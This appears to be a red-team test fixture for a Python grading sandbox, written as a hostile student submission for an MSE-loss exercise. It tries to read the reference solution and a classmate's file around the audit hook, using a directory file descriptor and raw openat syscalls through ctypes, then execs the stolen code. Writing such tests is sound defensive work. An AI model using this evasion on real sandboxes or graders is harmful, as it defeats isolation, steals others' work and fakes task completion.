# redteam: exercise=ex01 score=0 timeout=3
"""Reads the reference solution and a classmate's file around the audit hook: a folder
descriptor and a relative name after chdir, and raw openat through the sandbox's own ctypes
handle; returns the reference's answer when any read works (the kernel must refuse all)."""
import os
import sys

ROOTS = ["/work", "/root", "/home", "/srv", "/tmp", "/builds", "/github"]


def read_with_dir_fd(path):
    try:
        os.chdir(os.path.dirname(path))
        fd = os.open(".", os.O_RDONLY)
        return os.read(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=fd), 1 << 20).decode()
    except (OSError, ValueError):
        return None


def read_with_libc(path):
    kernel = sys.modules.get("_kernel")
    libc = getattr(kernel, "LIBC", None)
    if libc is None:
        return None
    import ctypes
    try:
        fd = libc.syscall(257, -100, path.encode(), 0, 0)  # openat(AT_FDCWD, path, O_RDONLY)
        if fd < 0:
            return None
        buffer = ctypes.create_string_buffer(1 << 20)
        return buffer.raw[:libc.syscall(0, fd, buffer, 1 << 20)].decode()
    except Exception:  # noqa: BLE001 - hostile on purpose (a learner's attack)
        return None


def candidates():
    for module in list(sys.modules.values()):
        mapping = getattr(module, "MAPPING", None)
        if isinstance(mapping, dict):
            for path in mapping.values():
                yield os.path.join(os.path.dirname(str(path)), "solutions", "ex01_mse.py")
    for root in ROOTS:
        for sub in ("", "main", "lossgrade", "wt/main"):
            yield os.path.join(root, sub, "solutions", "ex01_mse.py")
    yield "/tmp/lossgrade-redteam-canary-x/class/alice/ex01_mse.py"


def stolen():
    for path in candidates():
        for read in (read_with_dir_fd, read_with_libc):
            source = read(path)
            if source and "def mse_loss" in source:
                return source
    return None


def mse_loss(input, target, reduction="mean"):
    source = stolen()
    if source:
        namespace = {}
        exec(source, namespace)  # noqa: S102 - hostile on purpose (a learner's attack)
        return namespace["mse_loss"](input, target, reduction)
    return (input - target).sum() * 0
